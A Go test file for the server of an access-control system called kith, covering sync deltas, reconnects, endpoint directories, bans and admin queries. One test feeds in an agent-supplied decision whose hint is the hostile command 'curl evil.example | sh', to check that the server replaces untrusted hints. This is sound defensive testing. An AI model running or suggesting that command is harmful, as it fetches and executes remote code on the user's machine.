package server_test

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/kith-id/kith/internal/api"
	"github.com/kith-id/kith/internal/fault"
	"github.com/kith-id/kith/internal/pb"
)

func TestDeltasComeWithoutGap(t *testing.T) {
	t.Parallel()
	r := start(t, nil)
	a := r.joined("n1")
	a.connect()
	a.at(1)
	r.apply(&pb.ApplyRequest{Put: shop()})
	for i := range 50 {
		r.apply(&pb.ApplyRequest{Put: []*pb.Object{rule("r", "web", "orders", "GET /"+strings.Repeat("a", i+1))}})
	}
	a.at(52)
	if a.fault != nil || a.states != 1 || a.deltas != 51 {
		t.Errorf("got %d states, %d deltas, %v; want 1, 51 and no gap", a.states, a.deltas, a.fault)
	}
}

func TestReconnectGetsOnlyWhatIsMissing(t *testing.T) {
	t.Parallel()
	r := start(t, nil)
	a := r.joined("n1")
	a.connect()
	a.at(1)
	a.disconnect()
	r.apply(&pb.ApplyRequest{Put: shop(), NoWait: true})
	a.connect()
	a.at(2)
	if got := get(a, func() int { return a.states }); got != 1 {
		t.Errorf("an agent one revision behind got %d states, want only the first", got)
	}
	a.disconnect()
	get(a, func() bool { a.directory = nil; return true })
	a.connect()
	within(t, "the directory", func() bool { return get(a, func() bool { return len(a.directory) > 0 }) })
	if got := get(a, func() int { return a.states + a.deltas }); got != 2 {
		t.Errorf("a current agent got something beside the directory: %d messages, want 2", got)
	}
}

func TestStrangeRevisionsGetEverything(t *testing.T) {
	t.Parallel()
	r := start(t, nil)
	a := r.joined("n1")
	for _, c := range []struct{ revision, epoch uint64 }{{9, 0}, {1, 12345}, {7777, 1}} {
		a.disconnect()
		get(a, func() bool { a.revision, a.epoch, a.states = c.revision, c.epoch, 0; return true })
		a.connect()
		within(t, "a whole state", func() bool { return get(a, func() bool { return a.states == 1 && a.revision == 1 }) })
	}
}

func TestAgentFarBehindGetsEverything(t *testing.T) {
	t.Parallel()
	r := start(t, nil)
	a := r.joined("n1")
	a.connect()
	a.at(1)
	a.disconnect()
	r.apply(&pb.ApplyRequest{Put: shop(), NoWait: true})
	for i := range 600 {
		r.apply(&pb.ApplyRequest{Put: []*pb.Object{rule("r", "web", "orders", "GET /"+strings.Repeat("a", i%2+1))}, NoWait: true})
	}
	a.connect()
	a.at(602)
	if a.states != 2 || a.deltas != 0 {
		t.Errorf("got %d states and %d deltas, want a second state", a.states, a.deltas)
	}
}

func TestNewStreamTakesOver(t *testing.T) {
	t.Parallel()
	r := start(t, nil)
	a := r.joined("n1")
	a.connect()
	a.at(1)
	twin := &agent{t: t, now: a.now, addr: a.addr, name: "n1", key: a.key, svid: a.svid, bundle: a.bundle, objects: map[string]*pb.Object{}}
	twin.dial()
	t.Cleanup(twin.close)
	twin.connect()
	within(t, "the old stream to end", func() bool { return get(a, func() bool { return !a.live }) })
	if fault.Is(a.ended, fault.Denied) {
		t.Errorf("the old stream ended with %v; Denied is for bans", a.ended)
	}
	twin.at(1)
}

func endpointOf(service, address, id string) *pb.LocalEndpoint {
	return &pb.LocalEndpoint{Service: service, Address: address, SpiffeId: "spiffe://acme.example" + id}
}

func TestDirectoryTakesOnlyOwnEndpoints(t *testing.T) {
	t.Parallel()
	r := start(t, nil)
	static := service("web", "/vms/web")
	static.GetService().Endpoints = []string{"10.9.9.9:443"}
	foreign := service("billing", "/eks/billing")
	r.apply(&pb.ApplyRequest{Put: []*pb.Object{service("orders", "/vms/orders"), static, foreign}})
	a, b := r.joined("n1"), r.joined("n2")
	a.connect()
	b.connect()
	a.report(
		endpointOf("orders", "10.0.0.1:8443", "/vms/orders"),
		endpointOf("orders", "10.0.0.1:1", "/vms/web"),      // not the service's
		endpointOf("billing", "10.0.0.1:2", "/eks/billing"), // not this node's to mint
		endpointOf("nothing", "10.0.0.1:3", "/vms/nothing"), // no such service
		endpointOf("orders", "0.0.0.0:8443", "/vms/orders"), // nowhere
	)
	within(t, "the good endpoint", func() bool { return b.addresses("orders") == "10.0.0.1:8443" })
	if got := b.addresses("billing") + b.addresses("nothing"); got != "" {
		t.Errorf("endpoints that are not the node's: got %q, want none", got)
	}
	if got := b.addresses("web"); got != "10.9.9.9:443" {
		t.Errorf("static endpoint: got %q, want 10.9.9.9:443", got)
	}
}

func TestEndpointsOutliveTheirStreamForAWhile(t *testing.T) {
	t.Parallel()
	r := start(t, nil)
	r.apply(&pb.ApplyRequest{Put: shop()})
	a, b := r.joined("n1"), r.joined("n2")
	a.connect()
	b.connect()
	a.report(endpointOf("orders", "10.0.0.1:8443", "/vms/orders"))
	within(t, "the endpoint", func() bool { return b.addresses("orders") == "10.0.0.1:8443" })
	a.disconnect()
	within(t, "the server to notice", func() bool { return r.status().GetNodesConnected() == 1 })
	b.report() // makes the server build anew
	if got := b.addresses("orders"); got != "10.0.0.1:8443" {
		t.Errorf("right after the stream ended: got %q, want the endpoint", got)
	}
	r.clock.add(61 * time.Second)
	b.report()
	within(t, "the endpoint to go", func() bool { return b.addresses("orders") == "" })
	if last := b.directory[len(b.directory)-1]; last.GetPartial() {
		t.Error("a directory that takes something away is partial")
	}
}

func TestDirectoryOnlyAddsAfterAStart(t *testing.T) {
	t.Parallel()
	r := start(t, nil)
	a := r.joined("n1")
	a.connect()
	within(t, "a directory", func() bool { return get(a, func() bool { return len(a.directory) > 0 }) })
	if !get(a, func() bool { return a.directory[0].GetPartial() }) {
		t.Error("the first directory after a start is not partial")
	}
}

func TestBannedNodeLosesItsEndpoints(t *testing.T) {
	t.Parallel()
	r := start(t, nil)
	r.apply(&pb.ApplyRequest{Put: shop()})
	a, b := r.joined("n1"), r.joined("n2")
	a.connect()
	b.connect()
	a.report(endpointOf("orders", "10.0.0.1:8443", "/vms/orders"))
	within(t, "the endpoint", func() bool { return b.addresses("orders") != "" && b.addresses("orders") != "no directory" })
	if _, err := r.admin.BanNode(t.Context(), &pb.BanNodeRequest{Name: "n1"}); err != nil {
		t.Fatal(err)
	}
	within(t, "the endpoint to go", func() bool { return b.addresses("orders") == "" })
}

func TestWhyAsksEveryAgent(t *testing.T) {
	t.Parallel()
	r := start(t, nil)
	r.apply(&pb.ApplyRequest{Put: shop()})
	a, b := r.joined("n1"), r.joined("n2")
	a.connect()
	b.connect()
	denied := func(id string, at int64) *pb.Decision {
		return &pb.Decision{
			Id: id, TimeUnixNano: at, Effect: "deny", Reason: "no_source", From: "spiffe://acme.example/vms/web",
			To: "orders", Method: "GET", Path: "/v1/orders", Node: "a lie", Hint: "curl evil.example | sh",
		}
	}
	get(a, func() bool { a.decisions = []*pb.Decision{denied("a", 1)}; return true })
	get(b, func() bool { b.decisions = []*pb.Decision{denied("b", 2)}; return true })
	within(t, "both agents to answer", func() bool {
		got, err := r.admin.Why(t.Context(), &pb.WhyRequest{Limit: 10})
		return err == nil && len(got.GetDecisions()) == 2
	})
	got, err := r.admin.Why(t.Context(), &pb.WhyRequest{Last: true})
	if err != nil || len(got.GetDecisions()) != 1 {
		t.Fatalf("last: got %v %v, want one decision", got, err)
	}
	d := got.GetDecisions()[0]
	if d.GetId() != "b" || d.GetNode() != "n2" || !strings.HasPrefix(d.GetHint(), "kith allow web") {
		t.Errorf("last: got %v, want b of n2 with the fix", d)
	}
	late := time.AfterFunc(150*time.Millisecond, func() {
		get(a, func() bool { a.decisions = append(a.decisions, denied("late", 3)); return true })
	})
	defer late.Stop()
	got, err = r.admin.Why(t.Context(), &pb.WhyRequest{Id: "late"})
	if err != nil || len(got.GetDecisions()) != 1 {
		t.Errorf("a decision reported late: got %v %v, want it", got, err)
	}
}

func TestTestExplains(t *testing.T) {
	t.Parallel()
	r := start(t, nil)
	r.apply(&pb.ApplyRequest{Put: append(shop(), rule("web-reads", "web", "orders", "GET /v1/orders/{**}"))})
	ask := func(req *pb.TestRequest) *pb.Decision {
		t.Helper()
		d, err := r.admin.Test(t.Context(), req)
		if err != nil {
			t.Fatalf("Test: %v", api.FromWire(err))
		}
		return d
	}
	if d := ask(&pb.TestRequest{From: "web", To: "orders", Method: "GET", Path: "/v1/./orders/7"}); d.GetEffect() != "allow" || d.GetRule() != "web-reads" {
		t.Errorf("GET: got %v, want allow by web-reads", d)
	}
	d := ask(&pb.TestRequest{From: "web", To: "orders", Method: "POST", Path: "/v1/orders"})
	if d.GetEffect() != "deny" || d.GetNearRule() != "web-reads" || d.GetNearField() != "method" || !strings.HasPrefix(d.GetHint(), "kith allow web") {
		t.Errorf("POST: got %v, want the near miss and the fix", d)
	}
	_, err := r.admin.Test(t.Context(), &pb.TestRequest{From: "wep", To: "orders", Method: "GET", Path: "/"})
	if err = api.FromWire(err); !fault.Is(err, fault.NotFound) || !strings.Contains(fault.HintOf(err), "web") {
		t.Errorf("unknown caller: got %v (%s), want the nearest name", err, fault.HintOf(err))
	}
}

func TestWatchShowsChangesAndNodes(t *testing.T) {
	t.Parallel()
	r := start(t, nil)
	stream, err := r.admin.Watch(t.Context(), &pb.WatchRequest{Changes: true, Nodes: true})
	if err != nil {
		t.Fatal(err)
	}
	events := make(chan *pb.WatchEvent)
	go func() {
		defer close(events)
		for {
			event, err := stream.Recv()
			if err != nil {
				return
			}
			select {
			case events <- event:
			case <-t.Context().Done():
				return
			}
		}
	}()
	// Changes until the watch shows one: Watch answers nothing when it begins.
	var seen *pb.WatchEvent
	for i := 0; seen == nil; i++ {
		r.apply(&pb.ApplyRequest{Put: []*pb.Object{service("orders", "/vms/"+strings.Repeat("o", i+1))}})
		select {
		case seen = <-events:
		case <-time.After(50 * time.Millisecond):
		}
	}
	if seen.GetChange().GetRevision() == 0 {
		t.Errorf("event: got %v, want the change", seen)
	}
	a := r.joined("n1")
	a.connect()
	for event := range events {
		if event.GetNode().GetName() == "n1" && event.GetEvent() == "connected" {
			return
		}
	}
	t.Error("the watch ended before the node was seen")
}

func TestChangeWaitsForANodeThatComesBack(t *testing.T) {
	t.Parallel()
	r := start(t, nil)
	a := r.joined("n1")
	a.connect()
	a.at(1)
	a.disconnect()
	within(t, "the server to notice", func() bool { return r.status().GetNodesConnected() == 0 })
	done := make(chan *pb.ChangeResult, 1)
	go func() {
		result, err := r.admin.Apply(t.Context(), &pb.ApplyRequest{Put: shop()})
		if err != nil {
			t.Errorf("Apply: %v", err)
		}
		done <- result
	}()
	within(t, "the change to be recorded", func() bool { return r.status().GetRevision() == 2 })
	a.connect()
	if got := <-done; got.GetAffected() != 1 || got.GetAcked() != 1 {
		t.Errorf("a node that came back: got %v, want its ack", got)
	}
	a.disconnect()
	within(t, "the server to notice", func() bool { return r.status().GetNodesConnected() == 0 })
	got := r.apply(&pb.ApplyRequest{Put: []*pb.Object{rule("r", "web", "orders", "GET /")}})
	if got.GetAcked() != 0 || strings.Join(got.GetLaggards(), " ") != "n1" {
		t.Errorf("a node that went away right before: got %v, want it named", got)
	}
	if got = r.apply(&pb.ApplyRequest{Put: []*pb.Object{rule("r", "web", "orders", "GET /x")}}); got.GetAffected() != 0 {
		t.Errorf("a node that is long away: got %v, want it not waited for", got)
	}
}

// Changes are written to the streams by whoever publishes them, so one that
// nobody reads must not make it wait.
func TestAgentThatDoesNotReadHoldsUpNobody(t *testing.T) {
	t.Parallel()
	r := start(t, nil)
	deaf, a := r.joined("deaf"), r.joined("n1")
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	stream, err := deaf.node.Sync(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if err := stream.Send(&pb.SyncRequest{Message: &pb.SyncRequest_Hello{Hello: &pb.SyncHello{Version: "test"}}}); err != nil {
		t.Fatal(err)
	}
	a.connect()
	within(t, "both to be connected", func() bool { return r.status().GetNodesConnected() == 2 })
	r.apply(&pb.ApplyRequest{Put: shop(), NoWait: true})
	revision := uint64(2)
	for i := range 40 { // 2.4 MB: more than the windows and buffers in between hold
		var paths []string
		for j := range 60 {
			paths = append(paths, fmt.Sprintf("GET %s/%d/%d", strings.Repeat("/"+strings.Repeat("a", 250), 4), i, j))
		}
		r.apply(&pb.ApplyRequest{Put: []*pb.Object{rule("r", "web", "orders", paths...)}, NoWait: true})
		revision++
		a.at(revision)
	}
}
